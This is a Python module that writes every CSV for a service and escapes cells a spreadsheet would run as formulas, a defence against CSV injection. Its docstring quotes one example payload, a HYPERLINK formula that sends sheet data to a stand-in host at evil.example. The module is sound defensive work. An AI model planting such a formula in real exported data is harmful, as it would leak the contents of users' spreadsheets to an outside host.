"""The one CSV writer for every CSV the service writes.

A spreadsheet runs a cell that starts with "=", "+", "-" or "@" (and some run one that
starts with a tab or a carriage return) as a formula: a department typed as
`=HYPERLINK("https://evil.example/?"&A1, "click")` would send the sheet's data away when
a coordinator opens the match CSV. Such a cell is written with a leading apostrophe,
which spreadsheets show as plain text (OWASP's "CSV injection" advice).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Protocol

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


class _Sink(Protocol):
    def write(self, text: str, /) -> int: ...


def safe_cell(value: object) -> str:
    """`value` as text, escaped when a spreadsheet would read it as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


class SafeWriter:
    """csv.writer with every cell passed through `safe_cell`."""

    def __init__(self, sink: _Sink) -> None:
        self._writer = csv.writer(sink, lineterminator="\n")

    def writerow(self, cells: Iterable[object]) -> None:
        self._writer.writerow([safe_cell(c) for c in cells])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_text(rows: Iterable[Iterable[object]]) -> str:
    """Rows (the header first) as CSV text."""
    buf = io.StringIO()
    SafeWriter(buf).writerows(rows)
    return buf.getvalue()
